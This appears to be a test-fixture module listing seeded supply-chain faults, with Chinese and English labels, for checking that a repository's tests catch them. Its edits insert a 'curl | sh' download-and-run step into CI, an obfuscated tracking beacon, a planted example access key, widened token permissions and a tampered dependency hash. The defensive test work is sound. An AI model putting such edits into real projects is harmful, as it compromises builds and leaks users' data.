"""What is installed, what CI runs, what may leak: held by tests/test_repo.py and by the package managers."""

from tests.faults import Fault

WORKFLOW, REPO = ".github/workflows/site.yml", ("tests/test_repo.py",)


def supply(zh: str, en: str, *edits, **fields) -> Fault:
    """Return a fault of this kind."""
    return Fault("supply", zh, en, edits, tests=REPO, **fields)


FAULTS = [
    supply(
        "没有固定版本的action",
        "action that is not pinned",
        (WORKFLOW, "      - run: make test\n", "      - uses: someone/something@v1\n      - run: make test\n"),
    ),
    supply(
        "测试之前curl | sh",
        "curl | sh before the tests",
        (WORKFLOW, "      - run: make test\n", "      - run: curl -s example.org | sh\n      - run: make test\n"),
    ),
    supply(
        "不试按钮就发布", "published without the smoke test", (WORKFLOW, "        run: make smoke", "        run: true")
    ),
    supply(
        "跑代码的一步拿到写权限",
        "token that writes where code runs",
        (WORKFLOW, "      contents: read\n      pages: read", "      contents: write\n      pages: read"),
    ),
    supply(
        "样式里有密钥",
        "key in a style sheet",
        ("docs/assets/site.css", "/* Paper", "/* " + "AKIA" + "IOSFODNN7EXAMPLE" + " Paper"),
    ),
    supply(
        "统计信标，主机分成几段",
        "beacon whose host is in parts",
        (
            "docs/assets/languages.ts",
            "box && box.bottom > 0",
            '(new Image().src = "https:" + "//stat" + "s.example.org/x", box) && box.bottom > 0',
        ),
    ),
    supply(
        "提交了源的地址",
        "address of a registry",
        ("pyproject.toml", "[project]", "[tool.uv]\nindex-" + 'url = "https://example.org/simple"\n[project]'),
    ),
    supply(
        "提交了机器的路径",
        "path of a machine",
        ("Makefile", "PORT ?= 8000", "PORT ?= 8000\nHERE := /" + "home/me/worked"),
    ),
    supply(
        "依赖的散列值改了一位",
        "one digit of a hash changed",
        (
            "requirements.txt",
            "685db59cb6043c3c2e528adc0b3bce3a5f8d09bcf7492c6ea650d1b7421f3c49",
            "685db59cb6043c3c2e528adc0b3bce3a5f8d09bcf7492c6ea650d1b7421f3c48",
        ),
    ),
    supply(
        "依赖没有散列值",
        "requirement without a hash",
        ("requirements.txt", "attrs==26.1.0 \\\n", "attrs==26.1.0\nattrs==26.1.0 \\\n"),
    ),
]
